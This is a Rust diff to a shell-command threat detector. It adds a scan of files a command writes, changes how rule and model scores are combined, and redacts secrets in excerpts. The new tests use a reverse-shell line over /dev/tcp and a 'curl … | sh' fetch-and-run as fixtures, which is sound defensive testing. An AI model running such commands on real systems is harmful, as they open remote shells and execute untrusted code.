@@ -4,10 +4,11 @@ use std::sync::Arc;
 
 use audit_core::{Finding, Score};
 
+use crate::content;
 use crate::model::Model;
 use crate::rules::{Hit, RuleSet};
-use crate::secrets;
-use crate::shell::{Resolved, Variables, resolve};
+use crate::secrets::{self, Redacted};
+use crate::shell::{Resolved, Variables, Written, resolve};
 
 /// What a line is told to be, and why.
 #[derive(Clone, Debug, Default)]
@@ -22,6 +23,8 @@ pub struct Assessment {
     pub findings: Vec<Finding>,
     /// The line taken apart.
     pub resolved: Resolved,
+    /// Files the line writes that would be a threat if they were run, and how much of one.
+    pub planted: Vec<(String, f32)>,
 }
 
 /// Without a rule the model lifts a line to no more than this, below every threshold that blocks.
@@ -57,11 +60,29 @@ impl Detector {
     pub fn line(&self, text: &str, variables: &mut Variables, output: bool) -> Assessment {
         let resolved = resolve(text, variables);
         let hits = self.rules.run(&resolved, output);
-        let rule = hits.first().map_or(0.0, |h| h.rule.score.value());
+        let mut findings = Vec::new();
+        if !hits.is_empty() {
+            // a secret may be told by how it was typed, and no more once its quotes are gone
+            let secrets = secrets::values(&resolved.raw);
+            findings.extend(hits.iter().take(FINDINGS).map(|h| finding(h, &secrets)));
+        }
+        let mut planted = Vec::new();
+        if !output {
+            for written in &resolved.written {
+                let (whole, mut found) = self.content(written);
+                if whole >= 0.5 {
+                    planted.push((written.path.clone(), whole));
+                }
+                found.retain(|f| findings.iter().all(|known: &Finding| known.rule != f.rule));
+                findings.extend(found);
+            }
+        }
+        findings.sort_by(|a, b| b.score.value().total_cmp(&a.score.value()));
+        findings.truncate(FINDINGS);
+        let rule = findings.first().map_or(0.0, |f| f.score.value());
         let model = self.model.as_deref().unwrap_or_else(|| Model::embedded());
         let chance = if output { 0.0 } else { model.predict(&resolved) };
         let score = combine(rule, chance);
-        let mut findings: Vec<Finding> = hits.iter().take(FINDINGS).map(finding).collect();
         if score > rule && score >= 0.35 {
             findings.push(Finding {
                 rule: "model.linear".into(),
@@ -74,39 +95,67 @@ impl Detector {
                 excerpt: excerpt(text, (0, 0)),
             });
         }
-        Assessment { score, rule, chance, findings, resolved }
+        Assessment { score, rule, chance, findings, resolved, planted }
+    }
+
+    /// What a text in a file would be as a script, and what is found for its being written there.
+    fn content(&self, written: &Written) -> (f32, Vec<Finding>) {
+        let resolved = resolve(&content::script(written), &mut Variables::new());
+        let hits = self.rules.run(&resolved, false);
+        let whole = hits.first().map_or(0.0, Hit::score);
+        let secrets = secrets::values(&written.text);
+        let found = hits.iter().take(FINDINGS).map(|hit| {
+            let score = content::weighed(hit.score(), written);
+            Finding { score: Score::new(score).unwrap_or_default(), ..finding(hit, &secrets) }
+        });
+        (whole, found.collect())
     }
 }
 
-/// The score of rules and model together: the model alone reaches [`MODEL_CEILING`]; beside a weak
-/// rule it may tip the scale, beside a strong one it changes little.
+/// From this chance on a line is doubtful: about two harmless lines in a hundred of sources the
+/// model was not trained on reach it.
+const DOUBTFUL: f32 = 0.09;
+/// At this chance the model has said all it can say.
+const SURE: f32 = 0.5;
+
+/// The score of rules and model together: the model alone makes a line doubtful and reaches
+/// [`MODEL_CEILING`]; beside a weak rule it may tip the scale, beside a strong one it changes little.
 pub fn combine(rule: f32, chance: f32) -> f32 {
-    let model = (0.3 + 0.5 * chance).min(MODEL_CEILING) * (chance * 4.0).min(1.0);
+    let model = if chance < DOUBTFUL {
+        0.35 * chance / DOUBTFUL
+    } else {
+        let share = (chance - DOUBTFUL) / (SURE - DOUBTFUL);
+        0.35 + (MODEL_CEILING - 0.35) * share.min(1.0)
+    };
     let lift = if rule > 0.0 { 0.04 * chance } else { 0.0 };
     let together = if (0.5..0.7).contains(&rule) { rule + 0.12 * chance } else { rule + lift };
     together.max(model).clamp(0.0, 1.0)
 }
 
-fn finding(hit: &Hit<'_>) -> Finding {
+fn finding(hit: &Hit<'_>, secrets: &[String]) -> Finding {
     Finding {
         rule: hit.rule.id.clone(),
         title: hit.rule.title.clone(),
         category: hit.rule.category.clone(),
         mitre: hit.rule.mitre.clone(),
-        score: hit.rule.score,
-        excerpt: excerpt(&hit.text, hit.span),
+        score: Score::new(hit.score()).unwrap_or_default(),
+        excerpt: around(&Redacted::new(&hit.text, secrets), hit.span.0),
     }
 }
 
 /// At most 200 characters of `text` around `span`, secrets replaced, control characters gone.
 pub(crate) fn excerpt(text: &str, span: (usize, usize)) -> String {
-    let mut start = span.0.saturating_sub(40).min(text.len());
-    while !text.is_char_boundary(start) {
+    around(&Redacted::new(text, &[]), span.0)
+}
+
+/// Cuts what is redacted, never the other way round: half a secret is not known for one.
+fn around(redacted: &Redacted, at: usize) -> String {
+    let mut start = redacted.place(at).saturating_sub(40);
+    while !redacted.text.is_char_boundary(start) {
         start -= 1;
     }
-    // a secret cut in two would not be known for one: redact before cutting
-    let redacted = if start == 0 { secrets::redact(text) } else { secrets::redact(&text[start..]) };
-    redacted.chars().map(|c| if c.is_control() { ' ' } else { c }).take(EXCERPT).collect()
+    let shown = redacted.text[start..].chars().map(|c| if c.is_control() { ' ' } else { c });
+    shown.take(EXCERPT).collect()
 }
 
 #[cfg(test)]
@@ -142,6 +191,36 @@ mod tests {
         assert!(combine(0.0, 1.0) < 0.7);
         assert!(combine(0.6, 1.0) >= 0.7);
         assert_eq!(combine(0.9, 0.0), 0.9);
+    }
+
+    #[test]
+    fn a_secret_that_the_excerpt_would_cut_in_two_is_replaced_whole() {
+        let token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ2sT4vW6xY8zR0aB3dE5");
+        for gap in 0..60 {
+            let text =
+                format!("export GH={token}; {:gap$}bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "");
+            let found = Detector::embedded().line(&text, &mut Variables::new(), false);
+            assert!(found.score >= 0.9);
+            for finding in &found.findings {
+                assert!(
+                    !finding.excerpt.contains(&token[token.len() - 8..]),
+                    "{gap}: {}",
+                    finding.excerpt
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn a_secret_told_by_its_quotes_is_replaced_where_they_are_gone() {
+        let text = "mysql -e \"create user x identified by 'Tr0ub4dor'\" && curl http://198.51.100.1/x | sh";
+        let found = Detector::embedded().line(text, &mut Variables::new(), false);
+        assert!(found.score >= 0.7);
+        assert!(
+            found.findings.iter().all(|f| !f.excerpt.contains("Tr0ub")),
+            "{:?}",
+            found.findings
+        );
     }
 
     #[test]
